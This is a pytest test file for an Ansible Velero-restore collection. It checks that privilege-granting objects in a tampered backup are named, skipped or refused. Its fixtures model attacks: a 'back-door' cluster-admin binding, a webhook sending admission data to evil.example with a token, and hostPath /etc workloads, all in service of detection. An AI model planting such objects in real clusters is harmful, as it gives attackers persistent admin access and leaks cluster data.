# SPDX-FileCopyrightText: standby.velero contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""A tampered backup: what it brings of rights is named whatever becomes of it, and nothing is written unless wanted."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from zlib import crc32

import pytest
from ansible_collections.standby.velero.plugins.module_utils._report.result import build, fails
from ansible_collections.standby.velero.plugins.module_utils._report.run import Run
from ansible_collections.standby.velero.plugins.module_utils._report.summary import in_sync
from ansible_collections.standby.velero.plugins.module_utils._vocabulary import Outcome, Reason
from controlplane import ControlPlane
from reports import read_report
from restoring import views
from scenes import (
    LABELS,
    NAMESPACE,
    OLD_LABELS,
    WIDGET_DEFINITION,
    Body,
    as_stored,
    backup_of,
    config_map,
    edit,
    labels_of,
    live,
    put,
    remove,
    run,
    settled,
    version_of,
    versions,
    watch,
)
from yaml import safe_load

RBAC = "rbac.authorization.k8s.io"
TOKEN = "dG9rZW4tY2FuYXJ5"


def rbac(kind: str, name: str, namespace: str = "", **fields: Any) -> Body:
    metadata = {"name": name} | ({"namespace": namespace} if namespace else {})
    return {"apiVersion": f"{RBAC}/v1", "kind": kind, "metadata": metadata, **fields}


def binding(kind: str, name: str, role: str, *subjects: Body, namespace: str = "") -> Body:
    reference = {"apiGroup": RBAC, "kind": "ClusterRole", "name": role}
    return rbac(kind, name, namespace, roleRef=reference, subjects=list(subjects))


def role(name: str, *resources: str) -> Body:
    rules = [{"apiGroups": [""], "resources": [resource], "verbs": ["get", "list"]} for resource in resources]
    return rbac("Role", name, NAMESPACE, rules=rules)


ALICE = {"apiGroup": RBAC, "kind": "User", "name": "alice"}
MASTERS = {"apiGroup": RBAC, "kind": "Group", "name": "system:masters"}
ROBOT = {"kind": "ServiceAccount", "namespace": NAMESPACE, "name": "robot"}

SPY: Body = {
    "apiVersion": "admissionregistration.k8s.io/v1",
    "kind": "ValidatingWebhookConfiguration",
    "metadata": {"name": "spy"},
    "webhooks": [
        {
            "name": "spy.example.org",
            "clientConfig": {"url": f"https://evil.example:8443/{TOKEN}"},
            "failurePolicy": "Ignore",
            "sideEffects": "None",
            "admissionReviewVersions": ["v1"],
            "timeoutSeconds": 1,
            "rules": [{"apiGroups": ["none.example"], "apiVersions": ["v1"], "operations": ["*"], "resources": ["x"]}],
        }
    ],
}

OWN = (binding("ClusterRoleBinding", "operators", "view", ALICE), role("reader", "configmaps"), role("same", "pods"))
"""What the target has of its own; `same` is as the backup has it."""
TAMPERED = (
    binding("ClusterRoleBinding", "back-door", "cluster-admin", MASTERS, ROBOT),
    binding("ClusterRoleBinding", "operators", "view", ALICE, MASTERS),
    role("reader", "configmaps", "secrets"),
    SPY,
)
APP = config_map("app", {"a": "1"})

NEW = {
    "ClusterRoleBinding back-door": [
        "roleRef ClusterRole cluster-admin",
        "Group system:masters",
        f"ServiceAccount {NAMESPACE}/robot",
    ],
    "ClusterRoleBinding operators": ["Group system:masters"],
    "ValidatingWebhookConfiguration spy": [
        "webhook spy.example.org calls https://evil.example:8443, failurePolicy Ignore"
    ],
    "Role reader": ['verbs: get, list; resources: secrets; apiGroups: ""'],
}
WRITTEN = {
    "ClusterRoleBinding back-door": "created",
    "ClusterRoleBinding operators": "updated",
    "ValidatingWebhookConfiguration spy": "created",
    "Role reader": "updated",
}


@pytest.fixture(scope="module")
def cluster(controlplane: ControlPlane) -> ControlPlane:
    controlplane.apply(f"{{apiVersion: v1, kind: Namespace, metadata: {{name: {NAMESPACE}}}}}")
    return controlplane


@pytest.fixture
def target(cluster: ControlPlane) -> ControlPlane:
    """With the target's own objects alone."""
    for body in (*TAMPERED, role("same", "pods"), APP):
        if live(cluster, body):
            remove(cluster, body)
    put(cluster, *OWN)
    return cluster


@pytest.fixture
def backup(target: ControlPlane, tmp_path: Path) -> Path:
    return backup_of(tmp_path, *TAMPERED[:-1], as_stored(target, SPY), role("same", "pods"), APP)


def section(restored: Run) -> dict[str, tuple[str, str]]:
    """Outcome and reason of each entry."""
    return {f"{one['kind']} {one['name']}": (one["outcome"], one["reason"]) for one in restored.privileged}


def new(restored: Run) -> dict[str, list[str]]:
    return {f"{one['kind']} {one['name']}": one["new"] for one in restored.privileged}


def state_of(target: ControlPlane) -> dict[str, Body | None]:
    return {body["metadata"]["name"]: live(target, body) for body in TAMPERED}


@pytest.mark.parametrize("mode", ["restore", "skip", "fail"])
def test_check_mode_names_what_is_new_and_stores_nothing(target, backup, mode):
    before = settled(target)
    planned = run(watch(target.kubeconfig), backup, check=True, privileged_objects=mode)
    assert versions(target) == before
    assert new(planned) == NEW
    done = run(watch(target.kubeconfig), backup, privileged_objects=mode)
    assert section(done) == section(planned)
    assert new(done) == NEW


def test_as_other_objects_they_are_restored_unless_told_otherwise(target, backup):
    done = run(watch(target.kubeconfig), backup)
    assert section(done) == {key: (outcome, "") for key, outcome in WRITTEN.items()}
    assert all(labels_of(body) == LABELS for body in state_of(target).values())
    again = run(watch(target.kubeconfig), backup)
    assert section(again) == {}
    assert {result.outcome for result in views(again)} == {Outcome.UNCHANGED}


def test_skipped_ones_are_left_alone_and_all_else_is_restored(target, backup):
    before = state_of(target)
    done = run(watch(target.kubeconfig), backup, privileged_objects="skip")
    assert state_of(target) == before
    assert section(done) == dict.fromkeys(NEW, ("skipped", "privileged"))
    assert new(done) == NEW
    assert live(target, APP)
    assert in_sync(done.done, check_mode=False)
    assert fails("failed", done) is None


def test_refused_ones_fail_and_all_else_is_restored(target, backup):
    before = state_of(target)
    done = run(watch(target.kubeconfig), backup, privileged_objects="fail")
    assert state_of(target) == before
    assert section(done) == dict.fromkeys(NEW, ("failed", "privileged"))
    assert new(done) == NEW
    assert live(target, APP)
    message = fails("failed", done)
    assert message
    assert "ClusterRoleBinding.rbac.authorization.k8s.io back-door: privileged: " in message
    assert build(done)["restore"]["phase"] == "PartiallyFailed"


@pytest.mark.parametrize("mode", ["skip", "fail"])
def test_equal_ones_get_their_labels_and_are_not_listed(target, backup, mode):
    done = run(watch(target.kubeconfig), backup, privileged_objects=mode)
    assert "Role same" not in section(done)
    assert labels_of(live(target, role("same", "pods"))) == LABELS


@pytest.mark.parametrize("mode", ["skip", "fail"])
def test_one_that_is_deleted_meanwhile_is_not_created_again(target, tmp_path, mode):
    same = role("same", "pods")
    edit(target, same, {"metadata": {"labels": OLD_LABELS}})

    def before(method: str, _path: str, _body: Any) -> None:
        if method == "PATCH" and live(target, same):
            remove(target, same)

    done = run(watch(target.kubeconfig, before), backup_of(tmp_path, same), privileged_objects=mode)
    assert live(target, same) is None
    assert [result.reason for result in views(done)] == [Reason.PRIVILEGED]


# What gives rights without being RBAC

LEVEL = "pod-security.kubernetes.io/enforce"
ROLE_ARN = "eks.amazonaws.com/role-arn"


def space(name: str, **labels: str) -> Body:
    return {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "labels": labels}}


def account(name: str, **annotations: str) -> Body:
    metadata = {"name": name, "namespace": NAMESPACE, "annotations": annotations}
    return {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": metadata}


def secret(name: str, of: str) -> Body:
    metadata = {"name": name, "namespace": NAMESPACE, "annotations": {"kubernetes.io/service-account.name": "robot"}}
    return {"apiVersion": "v1", "kind": "Secret", "metadata": metadata, "type": of}


def deployment(name: str, **spec: Any) -> Body:
    labels = {"app": name}
    template = {"metadata": {"labels": labels}, "spec": {"containers": [{"name": "c", "image": "i"}], **spec}}
    metadata = {"name": name, "namespace": NAMESPACE}
    spec = {"selector": {"matchLabels": labels}, "template": template}
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata, "spec": spec}


BROUGHT = {
    "Namespace loose": [f"label {LEVEL}=privileged", "label istio-injection=disabled"],
    "Namespace strict": [f"label {LEVEL}=baseline"],
    "ServiceAccount robot": [f"annotation {ROLE_ARN}=arn:aws:iam::1:role/admin"],
    "ServiceAccount known": [f"annotation {ROLE_ARN}=arn:aws:iam::1:role/admin"],
    "Secret token": ["/type"],
    "Deployment hosted": ["hostNetwork", "hostPath /etc"],
}
WITHHELD = ("Namespace loose", "Namespace strict", "ServiceAccount robot", "ServiceAccount known")


class Subtle:
    """A backup of what gives rights without being RBAC. Namespaces never go here: each test has its own."""

    def __init__(self, target: ControlPlane, folder: Path) -> None:
        self.target = target
        self.suffix = f"-{crc32(str(folder).encode()):x}"
        self.bodies = {
            "loose": space(f"loose{self.suffix}", **{LEVEL: "privileged", "team": "a", "istio-injection": "disabled"}),
            "strict": space(f"strict{self.suffix}", **{LEVEL: "baseline", "team": "a"}),
            "robot": account("robot", **{ROLE_ARN: "arn:aws:iam::1:role/admin", "note": "a"}),
            "known": account("known", **{ROLE_ARN: "arn:aws:iam::1:role/admin"}),
            "token": secret("token", "kubernetes.io/service-account-token"),
            "opaque": secret("opaque", "Opaque"),
            "hosted": deployment("hosted", hostNetwork=True, volumes=[{"name": "v", "hostPath": {"path": "/etc"}}]),
            "plain": deployment("plain"),
            "inside": {
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": {"name": "inside", "namespace": f"loose{self.suffix}"},
            },
        }
        self.backup = backup_of(folder, *self.bodies.values())

    def run(self, mode: str = "restore", **options: Any) -> Run:
        return run(watch(self.target.kubeconfig), self.backup, privileged_objects=mode, **options)

    def live(self, name: str) -> Body | None:
        return live(self.target, self.bodies[name])

    def said(self, told: dict[str, Any]) -> dict[str, Any]:
        """By the names without the suffix."""
        return {name.removesuffix(self.suffix): value for name, value in told.items()}


@pytest.fixture
def subtle(cluster: ControlPlane, tmp_path: Path) -> Subtle:
    """On the target stand a stricter namespace and an account without a role in the cloud."""
    made = Subtle(cluster, tmp_path)
    for name, body in made.bodies.items():
        if name not in ("loose", "strict") and live(cluster, body):
            remove(cluster, body)
    put(cluster, space(f"strict{made.suffix}", **{LEVEL: "restricted"}), account("known"))
    return made


def test_what_gives_rights_without_being_rbac_is_named_with_what_it_brings(subtle):
    done = subtle.run(check=True)
    assert subtle.said(new(done)) == BROUGHT
    assert set(section(done).values()) == {("created", ""), ("updated", "")}


@pytest.mark.parametrize("mode", ["skip", "fail"])
def test_what_others_need_is_restored_without_its_rights(subtle, mode):
    checked, done, again = subtle.run(mode, check=True), subtle.run(mode), subtle.run(mode)
    assert subtle.said(new(checked)) == subtle.said(new(done)) == BROUGHT
    assert subtle.said(new(again)) == {name: BROUGHT[name] for name in (*WITHHELD, "Secret token")}
    for restored in (checked, done, again):
        told = subtle.said(section(restored))
        assert told["Secret token"] == ("skipped" if mode == "skip" else "failed", "privileged")
        assert {told[name][1] for name in WITHHELD} == {"withheld"}
    assert {result.reason for result in views(done) if result.outcome is Outcome.FAILED} <= {Reason.PRIVILEGED}


@pytest.mark.parametrize("mode", ["skip", "fail"])
def test_what_stands_there_then_has_everything_but_its_rights(subtle, mode):
    subtle.run(mode)
    labels = subtle.live("loose")["metadata"]["labels"]
    assert (labels["team"], labels.keys() & {LEVEL, "istio-injection"}) == ("a", set())
    strict = subtle.live("strict")["metadata"]["labels"]
    assert (strict["team"], strict[LEVEL]) == ("a", "restricted")
    robot = subtle.live("robot")["metadata"]["annotations"]
    assert (robot["note"], ROLE_ARN in robot) == ("a", False)
    assert ROLE_ARN not in subtle.live("known")["metadata"].get("annotations", {})
    assert subtle.live("token") is None
    assert subtle.live("opaque")
    assert subtle.live("hosted")["spec"]["template"]["spec"]["hostNetwork"] is True


@pytest.mark.parametrize("mode", ["skip", "fail"])
def test_a_namespace_that_is_only_needed_is_ensured_without_its_rights(subtle, mode):
    done = subtle.run(mode, included_resources=["configmaps"])
    assert subtle.said(section(done))["Namespace loose"] == ("created", "withheld")
    labels = subtle.live("loose")["metadata"]["labels"]
    assert (labels["team"], labels.keys() & {LEVEL, "istio-injection"}) == ("a", set())
    assert subtle.live("inside")
    assert subtle.live("plain") is None


def test_where_they_were_to_make_it_fail_the_restore_fails_in_part(subtle):
    done = subtle.run("fail", excluded_resources=["secrets"])
    errors = [text for text in done.velero_errors if text.startswith("privileged_objects is fail: ")]
    assert len(errors) == len(WITHHELD)
    assert "label pod-security.kubernetes.io/enforce" in "".join(errors)
    assert fails("failed", done)
    assert build(done)["restore"]["phase"] == "PartiallyFailed"
    assert fails("failed", subtle.run("skip")) is None


def test_workloads_count_where_the_user_says_so(subtle):
    rules = [{"resource": "deploy", "host_access": True}, {"resource": "cm", "labels": ["team"]}]
    done = subtle.run("skip", privileged_rules=rules)
    assert section(done)["Deployment hosted"] == ("skipped", "privileged")
    assert subtle.live("hosted") is None
    assert subtle.live("plain")
    assert done.unmatched == ()


def test_policy_none_lists_what_it_creates_alone(target, backup):
    done = run(watch(target.kubeconfig), backup, existing_resource_policy="none")
    assert set(section(done)) == {"ClusterRoleBinding back-door", "ValidatingWebhookConfiguration spy"}


def test_a_binding_to_another_role_is_new_to_all_its_subjects(target, tmp_path):
    own = binding("RoleBinding", "deployers", "view", ALICE, namespace=NAMESPACE)
    put(target, own)
    try:
        wanted = backup_of(tmp_path, binding("RoleBinding", "deployers", "admin", ALICE, namespace=NAMESPACE))
        options = {"existing_resource_policy": "recreate"}
        before = version_of(live(target, own))
        skipped = run(watch(target.kubeconfig), wanted, privileged_objects="skip", **options)
        assert version_of(live(target, own)) == before
        done = run(watch(target.kubeconfig), wanted, **options)
        assert new(skipped) == new(done) == {"RoleBinding deployers": ["roleRef ClusterRole admin", "User alice"]}
        assert section(done) == {"RoleBinding deployers": ("recreated", "")}
    finally:
        remove(target, own)


@pytest.mark.parametrize("check", [True, False])
def test_objects_of_a_definition_that_is_skipped_are_not_served(target, tmp_path, check):
    widget = {
        "apiVersion": "example.org/v1",
        "kind": "Widget",
        "metadata": {"name": "one", "namespace": NAMESPACE},
    }
    definition = safe_load(WIDGET_DEFINITION)
    done = run(
        watch(target.kubeconfig), backup_of(tmp_path, definition, widget), check=check, privileged_objects="skip"
    )
    assert new(done) == {"CustomResourceDefinition widgets.example.org": ["version v1: served, stored"]}
    of_kind = {result.key.kind: result for result in views(done)}
    assert of_kind["CustomResourceDefinition"].outcome is Outcome.SKIPPED
    assert of_kind["Widget"].outcome is Outcome.FAILED
    assert "the target does not serve widgets.example.org" in of_kind["Widget"].message
    assert live(target, definition) is None


def test_result_and_report_name_them_where_all_else_is_cut_off_and_no_token_is_shown(target, tmp_path):
    many = [config_map(f"many-{number:04}", {}) for number in range(600)]
    wanted = backup_of(tmp_path, *TAMPERED, *many)
    report = tmp_path / "report.json"
    done = run(watch(target.kubeconfig), wanted, check=True, privileged_objects="fail", report_path=str(report))
    result = build(done)
    assert result["objects_truncated"]
    assert new(done) == NEW
    assert (len(result["privileged"]), result["privileged_total"]) == (len(NEW), len(NEW))
    assert read_report(report)["privileged"] == result["privileged"]
    assert TOKEN not in report.read_text() + json.dumps(result)
